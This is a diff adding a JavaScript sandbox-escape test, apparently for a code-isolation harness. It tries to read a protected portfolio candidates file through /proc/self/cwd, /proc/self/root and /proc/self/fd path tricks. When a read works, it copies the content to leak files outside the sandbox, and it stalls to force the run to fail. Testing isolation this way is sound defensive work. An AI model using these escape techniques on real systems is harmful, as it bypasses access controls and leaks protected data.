@@ -1,0 +1,73 @@
+/* @attack {"title": "the candidates file through /proc/self/cwd, /proc/<pid>/cwd, /proc/self/root, and /proc/self/fd of an open lakehouse directory", "maxSeconds": 20} */
+import fs from 'node:fs';
+import path from 'node:path';
+
+const run = process.env.SLEEVE_RUN_DIR;
+const workspace = process.cwd();
+const CANDIDATES = 'data/lakehouse/portfolio_candidates.json';
+
+/**
+ * What a read got: when it is the protected content, copy it into the run dir
+ * and try the places the harness checks (next to the workspace, the lakehouse,
+ * the tmp marker, and the lakehouse again through the hole the read used, when
+ * the attack passes one); unless that last copy landed, stay alive past
+ * maxSeconds, so that the harness fails the run ("no report") even when every
+ * copy is refused.
+ */
+async function exfiltrate(how, content, ...holes) {
+  const text = typeof content === 'string' ? content : Buffer.from(content ?? '').toString('utf8');
+  if (!/"AAPL"\s*,\s*"MSFT"|SECRET-/.test(text)) {
+    console.log(`${how}: read ${JSON.stringify(text.slice(0, 60))}, not the protected content`);
+    return;
+  }
+  console.log(`ESCAPED ${how}: ${text.trim()}`);
+  for (const dest of [`${run}/stolen.json`, `${process.env.OUTSIDE}/leak.json`, `${workspace}/data/lakehouse/leak.json`, process.env.TMP_MARKER]) {
+    try {
+      fs.writeFileSync(dest, text);
+    } catch (error) {
+      console.log(`copy to ${dest}: ${error.code}`);
+    }
+  }
+  // The hole the read went through, used again to write the loot into the lakehouse.
+  for (const hole of holes) {
+    try {
+      await hole(text);
+      console.log('copied into the lakehouse through the same hole');
+      return;
+    } catch (error) {
+      console.log(`copy through the same hole: ${error.code}`);
+    }
+  }
+  await new Promise((resolve) => setTimeout(resolve, 120_000));
+  process.exit(0);
+}
+
+async function attempt(how, read) {
+  try {
+    await exfiltrate(how, await read());
+  } catch (error) {
+    console.log(`${how}: ${error.code ?? error.message}`);
+  }
+}
+
+const abs = path.resolve(CANDIDATES);
+const spellings = [
+  `/proc/self/cwd/${CANDIDATES}`,
+  `/proc/${process.pid}/cwd/${CANDIDATES}`,
+  `/proc/thread-self/cwd/${CANDIDATES}`,
+  `/proc/self/root${abs}`,
+  `/proc/self/cwd/data/lakehouse/ohlcv/../portfolio_candidates.json`,
+];
+for (const p of spellings) await attempt(p, () => fs.readFileSync(p));
+// A descriptor on a directory the sleeve may read, then .. through its /proc link.
+for (const dir of ['data/lakehouse/ohlcv', run]) {
+  try {
+    const fd = fs.openSync(dir, 'r');
+    await attempt(`/proc/self/fd/${fd} of ${dir}`, () => fs.readFileSync(`/proc/self/fd/${fd}/../portfolio_candidates.json`));
+    await attempt(`/dev/fd/${fd} of ${dir}`, () => fs.readFileSync(`/dev/fd/${fd}/../portfolio_candidates.json`));
+    await attempt(`/proc/self/fd/${fd} of ${dir} deeper`, () => fs.readFileSync(`/proc/self/fd/${fd}/../../data/lakehouse/portfolio_candidates.json`));
+  } catch (error) {
+    console.log(`open ${dir}: ${error.code}`);
+  }
+}
+await attempt('promises /proc/self/cwd', () => fs.promises.readFile(`/proc/self/cwd/${CANDIDATES}`));
